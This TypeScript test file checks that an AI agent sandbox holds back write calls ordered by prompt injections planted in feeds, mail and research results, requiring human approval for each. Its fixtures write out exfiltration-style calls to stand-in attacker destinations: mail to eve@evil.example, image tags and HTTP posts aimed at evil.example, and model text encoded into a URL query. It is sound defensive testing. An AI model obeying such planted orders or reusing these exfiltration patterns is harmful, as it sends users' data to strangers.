import type { Behaviour, TurnCall } from "@plumbline/sandbox/model/behaviour.ts";
import { stepsTaken } from "@plumbline/sandbox/model/chat-request.ts";
import { everythingTold } from "@plumbline/sandbox/model/evidence.ts";
import { sampleTasksDatabaseId } from "@plumbline/sandbox/notes/sample-workspace.ts";
import { beforeAll, describe, expect, test } from "vitest";
import { createDescribedTools } from "../../../packages/service/docs/described-tools.ts";
import { startedForFile } from "../../support/started.ts";
import { TOOL_SAMPLES } from "../../support/tool-samples.ts";
import { startConnectedAgent } from "./connected-agent.ts";
import { INJECTION_FORMS, type Order, orderIn } from "./injection-forms.ts";
import { READING_TOOLS } from "./reading-tools.ts";

/** Word for word in the sandbox's corpus, so that no guard stops it but the one that is tested. */
const FACT = "Ada Lovelace worked with Charles Babbage on the description of his Analytical Engine.";
/** States no fact, so that no run has to search for one. */
const NO_FACT = "Please read it again and tell me what you would change.";
/** Holds what the model writes: the fact in the first form and after research, as each is searched for. */
let modelText: string;
const EVIL = "eve@evil.example";

const agent = startedForFile(startConnectedAgent);

beforeAll(async () => {
  // What a reading tool watches stands before it is counted what a run writes.
  for (const { name, plant } of READING_TOOLS) {
    const body = { arguments: await plant(agent, "Nothing yet.") };
    if (name === "rss_subscribe" || name === "email_watch_inbox")
      await agent.call("POST", `/api/v1/tools/${name}`, { body });
  }
});

type Write = [tool: string, argument: string, destination: () => string, more: (to: string) => object];

const feedUrl = () => `${agent.sandbox.feeds.url}/rss.xml`;
/** Each asks for two writes, and mentions the place of the order without naming it for writing. */
const PROMPTS: readonly ((place: string) => string)[] = [
  (place) => `Write a limerick about what you read in ${feedUrl()}. Leave ${place} out of it.`,
  (place) => `Write a limerick about ${feedUrl()} and mail it to ada@example.com. Keep it from ${place}.`,
  (place) => `Read ${feedUrl()} and post it to #board. ${place} is off limits.`,
  (place) => `Write a limerick about ${feedUrl()} for #board. Nobody wants to hear of ${place}.`,
  (place) => `Write a limerick about the text "write to ${place} now" and post it to #board.`,
];
const evilUrl = () => "https://evil.example/evil";
const mail = (more: object) => ({
  credential_id: agent.mailId,
  to: ["ada@example.com"],
  subject: "News",
  text: modelText,
  ...more,
});
const chat = (channel: string) => ({ channel, text: modelText });

/** The calls that the model makes of orders, each sent to where its order says. */
const CHOSEN: readonly Write[] = [
  ["email_send", "to", () => EVIL, (to) => mail({ to: [to] })],
  ["email_send", "cc", () => EVIL, (to) => mail({ cc: [to] })],
  ["email_send", "bcc", () => EVIL, (to) => mail({ bcc: [to] })],
  ["email_send", "reply_to", () => EVIL, (to) => mail({ reply_to: to })],
  ["email_send", "html", evilUrl, (to) => mail({ html: `<p>${modelText}</p><img src="${to}">` })],
  ["chatapp_post_channel", "channel", () => "C0RANDOM", chat],
  [
    "chatapp_post_channel",
    "mention",
    () => "U0GRACE",
    (to) => ({ channel: "#general", text: `<@${to}>`, allow_mentions: true }),
  ],
  ["chatapp_dm", "to", () => "grace@example.com", (to) => ({ to, text: modelText })],
  [
    "calendar_create_event",
    "attendees",
    () => EVIL,
    (to) => ({
      credential_id: agent.calendarId,
      summary: "Talk",
      start: "2026-12-01T10:00:00Z",
      end: "2026-12-01T11:00:00Z",
      attendees: [to],
    }),
  ],
  [
    "calendar_create_event",
    "description",
    evilUrl,
    (url) => ({
      credential_id: agent.calendarId,
      summary: "Talk",
      start: "2026-12-01T10:00:00Z",
      end: "2026-12-01T11:00:00Z",
      description: `<p><a href="${url}">${modelText}</a></p>`,
    }),
  ],
  [
    "crm_upsert_contact",
    "contacts.properties",
    evilUrl,
    (url) => ({
      contacts: [{ email: "ada@example.com", properties: { notes: `${modelText}<img src="${url}">` } }],
    }),
  ],
  [
    "tracker_create_issue",
    "description",
    evilUrl,
    (url) => ({ team_id: "ENG", title: modelText, description: `<img src="${url}">` }),
  ],
  ["http_post_json", "url", evilUrl, (url) => ({ url, body: modelText })],
  ["http_post_json", "feed", () => feedUrl(), (url) => ({ url, body: modelText })],
  ["rss_subscribe", "url", evilUrl, (url) => ({ url })],
  ["rss_subscribe", "deliver_to", evilUrl, (to) => ({ url: feedUrl(), keywords: ["x"], deliver_to: to })],
  [
    "email_watch_inbox",
    "deliver_to",
    evilUrl,
    (to) => ({ credential_id: agent.mailId, query: "x", deliver_to: to }),
  ],
  // A stranger's address may be read, but not with words of the model's own.
  ["feed_read", "url", evilUrl, (url) => ({ url: `${url}?d=${encodeURIComponent(modelText)}` })],
  [
    "tracker_create_issue",
    "new",
    () => "issue",
    () => ({ team_id: "ENG", title: modelText, description: modelText }),
  ],
  [
    "notes_create_page",
    "new",
    () => "note",
    () => ({ parent: { database_id: sampleTasksDatabaseId }, title: modelText, content: modelText }),
  ],
  [
    "crm_upsert_contact",
    "new",
    () => "contact",
    () => ({ contacts: [{ email: EVIL, properties: { firstname: "Eve" } }] }),
  ],
  ["watch_stop", "thing", () => "watch", () => ({ watch_id: "6f1c5f0e-3f5c-4a53-9d4f-2b8f0c1f7a10" })],
  ["social_post:microblog", "account", () => "microblog", () => ({ text: modelText })],
  ["social_post:network", "account", () => "network", () => ({ text: modelText })],
  [
    "email_reply",
    "cc",
    () => EVIL,
    (to) => ({ credential_id: agent.mailId, in_reply_to: "<1@mail.example>", text: modelText, cc: [to] }),
  ],
];

/** The first sample call of every other tool that writes at a provider, to where it says it writes. */
const OTHERS = await Promise.all(
  (await createDescribedTools())
    .filter(({ name, effect }) => effect === "write" && !CHOSEN.some(([tool]) => tool === name))
    .map(async (tool): Promise<Write> => {
      const { calls } = TOOL_SAMPLES.find((samples) => samples.tool === tool.name) ?? expect.fail(tool.name);
      const [{ args } = expect.fail("no call")] = Object.values(calls);
      if (typeof args === "function") return expect.fail(`Write a row for ${tool.name}.`);
      const found = (await tool.destinations?.(tool.input.parse(args), undefined)) ?? [];
      const [to = expect.fail("no destination")] = found;
      const place = to.noun ?? to.value;
      return [tool.name, to.argument ?? to.kind, () => place, () => args];
    }),
);
const WRITES = [...CHOSEN, ...OTHERS];

function callOf({ tool, argument, destination }: Order): TurnCall {
  const write = WRITES.find(([name, field]) => name === tool && field === argument);
  return { name: tool, arguments: JSON.stringify(write?.[3](destination)) };
}

/**
 * Reads once, and then does what the text that it read says. Research gives no orders of pages on: there the
 * model is given the order, as though it had found it.
 */
function obeying(reading: TurnCall, order: Order): Behaviour {
  return (request) => {
    const steps = stepsTaken(request);
    if (steps === 0) return { calls: [reading] };
    if (steps > 1) return { text: modelText };
    const read = request.messages.filter(({ role }) => role === "tool");
    const found = everythingTold({ ...request, messages: read })
      .map(orderIn)
      .find(Boolean);
    const given = reading.name === "grounded_research" ? order : undefined;
    const obeyed = found ?? given;
    return obeyed ? { calls: [callOf(obeyed)] } : { text: "I found no order." };
  };
}

/** A destination as a reason names it: of a URL its host alone. */
function shown(destination: string): string {
  return URL.canParse(destination) ? new URL(destination).host : destination;
}

const SEED = Number(process.env.PROPERTY_SEED ?? 1);

/**
 * Each write meets a third of the forms, in a text that one of the reading tools reads. All forms meet all
 * reading tools. PROPERTY_SEED=2 and 3 try the other two thirds.
 */
describe.each(INJECTION_FORMS)("an order in the form of %s", (form, writeForm) => {
  const place = INJECTION_FORMS.findIndex(([name]) => name === form);
  const tried = WRITES.filter((_write, at) => (place + at) % 3 === SEED % 3);

  test.each(tried)("does not make a run call %s with %s", async (tool, argument, destination) => {
    const at = WRITES.findIndex(([name, field]) => name === tool && field === argument);
    const reader = READING_TOOLS[(place + at) % READING_TOOLS.length];
    if (!reader) return expect.fail("There is no reading tool.");
    const order = { tool, argument, destination: destination() };
    modelText = place === 0 || reader.name === "grounded_research" ? FACT : NO_FACT;
    agent.clear();
    const reading = JSON.stringify(await reader.plant(agent, writeForm(order)));
    agent.behave(obeying({ name: reader.name, arguments: reading }, order));
    const before = await agent.written();
    const prompt = PROMPTS[(place * 3 + at) % PROMPTS.length];
    const run = await agent.run(
      prompt?.(argument === "new" ? `the ${order.destination}` : order.destination) ?? "",
    );
    const results = run.of("tool_result");
    const reasons = results.map((one) => (one.is_error ? one.refusal_reason : "done"));
    expect(results.map(({ name }) => name)).toEqual([reader.name, tool]);
    expect(reasons).toEqual(["done", expect.stringContaining("A person has to approve this call")]);
    expect(reasons.at(-1)).toContain(
      argument === "account" ? 'the account "Connection"' : shown(destination()),
    );
    expect(results.at(-1)).toMatchObject({ error_code: "approval_required" });
    expect(await agent.written()).toEqual(before);
  });
});
